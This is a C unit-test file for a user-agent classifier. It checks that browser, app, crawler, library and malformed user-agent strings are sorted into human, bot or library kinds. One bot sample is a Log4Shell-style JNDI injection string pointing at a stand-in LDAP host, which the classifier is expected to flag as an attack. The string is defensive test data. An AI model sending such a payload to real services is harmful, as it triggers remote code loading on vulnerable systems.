#include <criterion/criterion.h>
#include <stdio.h>
#include <string.h>

#include "hayauma/track/agent.h"

static struct hy_agents *agents;

static void setup(void)
{
    cr_assert_eq(hy_agents_new(&agents), HY_OK);
}

static void teardown(void)
{
    hy_agents_free(agents);
}

TestSuite(agent, .init = setup, .fini = teardown);

struct sample {
    enum hy_agent_kind kind;
    const char *why, *agent;
};

static void check(const struct sample *s, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        struct hy_agent a = hy_agent_of(agents, hy_str_of(s[i].agent));
        cr_expect(a.kind == s[i].kind && strcmp(a.why, s[i].why) == 0, "%s: %s, %s", s[i].agent,
                  hy_agent_kind_name(a.kind), a.why);
    }
}

Test(agent, of_people_name_the_system_they_sit_at)
{
    static const struct sample samples[] = {
        {HY_AGENT_HUMAN, "browser",
         "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/149.0.0.0 Safari/537.36 Edg/149.0.0.0"},
        {HY_AGENT_HUMAN, "browser",
         "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:150.0) Gecko/20100101 Firefox/150.0"},
        {HY_AGENT_HUMAN, "browser",
         "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
         "Gecko) Version/19.1 Mobile/15E148 Safari/604.1"},
        {HY_AGENT_HUMAN, "in-app",
         "Mozilla/5.0 (Linux; Android 15; A402SO; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Version/4.0 Chrome/140.0.0.0 Mobile Safari/537.36 YJApp-ANDROID jp.co.yahoo.android/3.1"},
        {HY_AGENT_HUMAN, "in-app",
         "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
         "Gecko) Mobile/15E148 Safari Line/14.1.0"},
        {HY_AGENT_HUMAN, "app", "DoCoMo/2.0 P07A3(c500;TB;W24H15)"},
        {HY_AGENT_HUMAN, "app", "Opera/9.80 (Windows NT 6.1; U; ja) Presto/2.9.168 Version/11.50"},
        {HY_AGENT_HUMAN, "app", "Thunderbird/128.0"},
        {HY_AGENT_HUMAN, "text-browser", "w3m/0.5.3+git20230121"},
    };
    check(samples, sizeof samples / sizeof *samples);
}

Test(agent, of_robots_say_what_they_do_or_whose_they_are)
{
    static const struct sample samples[] = {
        {HY_AGENT_BOT, "contact",
         "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"},
        {HY_AGENT_BOT, "contact", "Mozilla/5.0 (compatible; ops@crawl.example)"},
        {HY_AGENT_BOT, "says-so",
         "Mozilla/5.0 (Windows NT 10.0; Win64; x64) LinkPreviewService/2 Chrome/120.0 "
         "Safari/537.36"},
        {HY_AGENT_BOT, "says-so",
         "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
         "HeadlessChrome/131.0.0.0 Safari/537.36"},
        {HY_AGENT_BOT, "says-so", "Sophos Email URL Protection"},
        {HY_AGENT_BOT, "attack", "${jndi:ldap://x.example/a}"},
        {HY_AGENT_BOT, "unknown", "Wombat"},
        {HY_AGENT_BOT, "unknown", "Mozilla/5.0"},
        {HY_AGENT_BOT, "none", ""},
        {HY_AGENT_BOT, "none", " \t"},
        {HY_AGENT_LIBRARY, "library", "curl/8.5.0"},
        {HY_AGENT_LIBRARY, "library", "python-requests/2.32.3"},
        {HY_AGENT_LIBRARY, "library", "Go-http-client/2.0"},
        {HY_AGENT_LIBRARY, "library", "Java/17.0.2"},
    };
    check(samples, sizeof samples / sizeof *samples);
}

/* Names of telephones and programs in which a robot's word stands, and the same word elsewhere. */
Test(agent, names_of_things_are_no_trades)
{
    static const struct sample samples[] = {
        {HY_AGENT_HUMAN, "browser",
         "Mozilla/5.0 (Linux; Android 14; CUBOT KINGKONG 9) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/130.0.0.0 Mobile Safari/537.36"},
        {HY_AGENT_HUMAN, "browser",
         "Mozilla/5.0 (Linux; Android 13; Spider X Reader) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/120.0.0.0 Mobile Safari/537.36"},
        {HY_AGENT_BOT, "says-so",
         "Mozilla/5.0 (Linux; Android 13; SM-G991B) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/120.0.0.0 Mobile Safari/537.36 Spider X Reader"},
        {HY_AGENT_HUMAN, "browser",
         "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; .NET CLR 3.5.30729; "
         "Media Center PC 6.0)"},
    };
    check(samples, sizeof samples / sizeof *samples);
}

Test(agent, of_any_bytes_and_any_length_is_something)
{
    static char text[1 << 20];
    memset(text, 'a', sizeof text);
    cr_expect_eq(hy_agent_of(agents, hy_str_make(text, sizeof text)).kind, HY_AGENT_BOT);
    memset(text, '(', sizeof text);
    memcpy(text, "Mozilla/5.0 ", 12);
    cr_expect_eq(hy_agent_of(agents, hy_str_make(text, sizeof text)).kind, HY_AGENT_BOT);
    for (size_t i = 0; i < sizeof text; i++)
        text[i] = (char)(i * 2654435761u >> 13);
    cr_expect_eq(hy_agent_of(agents, hy_str_make(text, sizeof text)).kind, HY_AGENT_BOT);
}

/* More texts than are remembered, twice each: what is remembered is never another text's. */
Test(agent, is_the_same_when_it_comes_again)
{
    static const char *const kinds[] = {"Mozilla/5.0 (X11; Linux x86_64) Firefox/", "curl/",
                                        "Examplebot/"};
    static const enum hy_agent_kind want[] = {HY_AGENT_HUMAN, HY_AGENT_LIBRARY, HY_AGENT_BOT};
    char text[100];
    for (int round = 0; round < 2; round++) {
        for (int i = 0; i < 3000; i++) {
            snprintf(text, sizeof text, "%s%d", kinds[i % 3], i);
            for (int again = 0; again < 2; again++)
                cr_assert_eq(hy_agent_of(agents, hy_str_of(text)).kind, want[i % 3], "%s", text);
        }
    }
}
